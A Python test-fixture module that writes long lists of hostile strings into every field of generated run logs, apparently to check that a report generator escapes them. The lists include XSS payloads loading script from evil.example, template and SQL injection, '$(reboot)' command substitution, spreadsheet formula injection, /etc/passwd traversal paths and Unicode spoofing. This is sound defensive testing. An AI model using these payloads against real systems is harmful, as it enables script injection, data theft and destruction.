"""Texts that attack a page, and logs that have them in every text field of every kind of record."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

from logs import (
    HOUR,
    PNG,
    START,
    artifact,
    delete,
    end,
    list_metric,
    metric,
    progress,
    run_start,
    step_start,
    use,
    write_blob,
    write_run,
)

from reportgen.records import Record

HOSTILE = [
    "<script>alert(1)</script>",
    "</title></style></textarea></script><script src=https://evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "`onclick=alert(1) x=`",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[a](https://example.org/\"onmouseover=alert(1)) [b](//evil.example) [c](data:text/html,x)",
    "<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph><style><img src onerror=1>",
    "<iframe src=//evil.example></iframe><object data=x></object><base href=//evil.example><form action=/x><input>",
    "<p style='position:fixed' class='top' id='main' onclick=alert(1)>x",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "]]> <!-- <![CDATA[ --> &lt;script&gt; &#60;script&#62;",
    "\u202egnp.exe \u2066evil\u2069 \u200b\ufeff",
    "\x00\x01\x08\x0b\x0c\x1b[31m\x7f\x80\x9f\ufffe\uffff",
    "../../x",
    "/etc/passwd",
    "..\\..\\x",
    "CON",
    ".htaccess",
    "_hidden",
    "a/b:c|d?e*f\"g<h>i",
    "%2e%2e%2f",
    "line\nbreak\r\n\u2028\u2029end",
    "=HYPERLINK(\"http://evil.example\")",
    "🧨" * 40,
    "x" * 3000,
    "á̂" * 50,
    " ",
]  # fmt: skip

# What runs if any of it is taken for markup or a script; `TRAP` is what the browser tests look for.
TRAP = "window.pwned=1,document.title='pwned',alert('pwned')"
NAUGHTY = [
    f"<script>{TRAP}</script>",
    f"</script><script>{TRAP}</script>",
    f"');{TRAP};('",
    f'"}}]\');{TRAP}//',
    f"\\');{TRAP}//",
    f"\u2028{TRAP}\u2029",
    f"<!--<script>--><img src=x onerror={TRAP}>",
    f"--><svg/onload={TRAP}>",
    f"]]></svg><img/src='x'onerror={TRAP}>",
    f"</textarea></title></noscript></style></template><img src=x onerror={TRAP}>",
    f'" autofocus onfocus="{TRAP}" x="',
    f"' tabindex=1 onfocus='{TRAP}' id='main",
    f"</text></svg></td></tr></table><script>{TRAP}</script>",
    f"<details open ontoggle={TRAP}><summary>x</summary></details>",
    f"<a href='&#x6a;avascript:{TRAP}'>x</a> [x](&#106;avascript:{TRAP}) [x](JaVaScRiPt:{TRAP})",
    f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <data:text/html,<script>{TRAP}</script>>",
    f"<meta http-equiv=refresh content='0;url=javascript:{TRAP}'><base href='https://evil.example/'>",
    f"<form><button formaction='javascript:{TRAP}'>x</button></form><input onfocus={TRAP} autofocus>",
    f"<math><a xlink:href='javascript:{TRAP}'>x</a></math><svg><animate onbegin={TRAP} attributeName=x dur=1s>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style><link rel=stylesheet href=//evil.example>",
    "{{7*7}} {{config}} {% include 'base.html' %} {# #} ${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    "__proto__", "constructor", "toString", "hasOwnProperty", "undefined", "null", "NaN", "-0", "1e999",
    "true", "[]", "{}",
    "../../../../etc/passwd", "..%2f..%2f", "file:///etc/passwd", "\\\\server\\share", "C:\\con\\nul",
    "aux.html", "~", "index.html",
    "\u202ethgir ot tfel\u202c \u2067\u05d0\u05d1\u2069 \u200f\u061c", "שלום, עולם (1.5%)!", "مرحبا: العالم؟",
    "".join(letter + "".join(map(chr, range(0x300, 0x330))) for letter in "Zalgo"),
    "👩‍👩‍👧‍👦 🏳️‍🌈 👨🏿‍🚒 🇺🇳 ❤️ 1️⃣ \U0001f9d1\u200d", "ﷺ𒐫꧅ \u3164 \u00ad\u200b\u2060 \ufff9x\ufffa",
    "\U000e0001\U000e0041 \ue000 \U0010fffd",
    "\x00", "a\x00b\x1b]0;pwned\x07\x1b[2J", "\ud800".encode("utf-8", "replace").decode(), "\r\n\t\v\f\x85", "﻿BOM",
    "Pneumonoultramicroscopicsilicovolcanoconiosis" * 40, "a " * 1500, "-" * 300, "`" * 300, "[" * 300, "> " * 300,
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "'; DROP TABLE runs; --", "$(reboot)", "%s%n%x", "\\", "'", '"', "&",
    "&amp;lt;", "%00", "#", "?", "/",
]  # fmt: skip


def read_injections(page: str) -> list[str]:
    """Take the injections out of a page that collects them in fenced blocks."""
    return [found.strip() for found in re.findall(r"^```\w*\n(.*?)^```", page, re.MULTILINE | re.DOTALL)]


def write_injections(log_dir: Path, texts: Sequence[str], *, at_once: int = 12) -> None:
    """Write runs that have a few texts each: all of them where a field takes many, one where it takes one.

    This gives far fewer pages than `write_texts`, which has each text in each field.
    """
    for number, first in enumerate(range(0, len(texts), at_once)):
        some = texts[first : first + at_once]
        write_run(log_dir, f"some-{number:03}", _records_of_some(some, number), at=START + number * HOUR)


def _records_of_some(texts: Sequence[str], number: int) -> Iterator[Record]:
    def one(place: int) -> str:
        return texts[(number + place) % len(texts)]

    yield run_start(
        one(0),
        name=one(1),
        deployment=one(2),
        params={text: text for text in texts},
        tags=[*texts],
        context={one(3): one(4)},
    )
    for place, text in enumerate(texts):
        yield step_start(f"s{place}", text)
        if place < 2:
            yield metric(text, place, step=f"s{place}")
            yield list_metric(text, [1, 2], step=f"s{place}")
        yield use(step=f"s{place}", uri=text, name=text, digest=text)
        yield use("write", step=f"s{place}", uri=f"s3://x/{text}", name=text)
        yield end("failed", (text, text, text), step=f"s{place}")
    rows = [[text, f"[{text}]({text})", {text: text}, f"![x](https://x/{text})"] for text in texts]
    yield artifact("table", one(5), type="table", data={"columns": [one(0), one(1), "nested", one(2)], "rows": rows})
    document = "\n\n".join(f"{text}\n\n# {text}\n\n<p>{text}</p>\n\n[x]({text})\n\n`{text}`" for text in texts)
    yield artifact("document", f"{one(6)}-md", data=document, description=document)
    for place, text in enumerate(texts[:3]):
        link = {"link": text, "link_text": text}
        yield artifact(f"link{place}", f"link-{place}", type="link", data=link, description=text)
    yield artifact("gone", "gone", data=one(1))
    yield delete("gone", one(5))
    yield artifact("bar", one(7), type="progress", data=1, description=one(3))
    yield progress("bar", 50, description=one(4))
    yield end("failed", (one(0), one(1), one(2)))


def hostile_records(text: str) -> Iterator[Any]:
    """Records of every kind with this text in each of their fields."""
    yield run_start(
        text,
        name=text,
        deployment=text,
        params={text: text, "nested": {text: [text]}},
        tags=[text],
        parent=text,
        context={text: text},
    )
    yield step_start(text, text)
    yield metric(text, 0.5, step=text)
    yield metric("shared", "NaN")
    yield list_metric(text, [1, 2, 3], step=text)
    keyed: dict[str, Any] = {"description": text, "step": text}
    yield artifact(f"{text}-md", f"{text}-md", data=text, **keyed)
    yield artifact(f"{text}-md2", f"{text}-md", data=f"# {text}\n\n> {text}\n\n|{text}|\n|-|\n|{text}|\n", **keyed)
    table = {"columns": [text, "n"], "rows": [[text, 1], [f"[{text}]({text})", 2], [{text: text}, [text]]]}
    yield artifact(f"{text}-table", text, type="table", data=table, **keyed)
    yield artifact(f"{text}-table2", text, type="table", data={"columns": [], "rows": [[text], text]}, **keyed)
    yield artifact(f"{text}-link", f"{text}-link", type="link", data={"link": text, "link_text": text}, **keyed)
    yield artifact(f"{text}-link2", f"{text}-link", type="link", data={"link": f"https://x/{text}"}, **keyed)
    yield artifact(f"{text}-url", f"{text}-url", type="image", data={"url": text}, **keyed)
    yield artifact(f"{text}-url2", f"{text}-url", type="image", data={"url": f"https://x.example/{text}"}, **keyed)
    yield artifact(f"{text}-blob", f"{text}-blob", type="image", data={"blob": text, "name": text}, **keyed)
    yield artifact(f"{text}-raw", None, type="image", data=text, **keyed)
    yield artifact(f"{text}-bar", f"{text}-bar", type="progress", data=text, **keyed)
    yield artifact(f"{text}-bar2", f"{text}-bar", type="progress", data=1, **keyed)
    yield progress(f"{text}-bar2", 150.0, description=text)
    yield progress(text, 1.0)
    yield artifact(f"{text}-gone", f"{text}-gone", data=text, **keyed)
    yield delete(f"{text}-gone", text)
    yield use(step=text, artifact=f"{text}-md", key=text, uri=text, name=text, digest=text)
    yield use("write", step=text, uri=text, name=text, digest=text)
    yield use(uri=text)
    yield end("failed", (text, text, text), step=text)
    yield end("failed", (f"{text}!", text, text))


def write_texts(log_dir: Path, texts: list[str]) -> None:
    for number, text in enumerate(texts):
        blob = write_blob(log_dir, f"folder-{number}", PNG)
        records = [
            *hostile_records(text),
            artifact("good", "good", type="image", data={"blob": blob}, description=text),
        ]
        path = write_run(log_dir, text, records, at=START + number * HOUR, folder=f"folder-{number}")
        unknown = json.dumps({"kind": text, "ts": 1, "seq": 500, text: text})
        wrong = json.dumps({"kind": "artifact", "ts": 1, "seq": 501, "id": text, "type": text})
        lines = [unknown, wrong, '{"kind":"metric","ts":1,"seq":502,"name":"\\ud800","value":1}', text]
        path.write_bytes(path.read_bytes() + "\n".join(lines).encode() + b"\n")
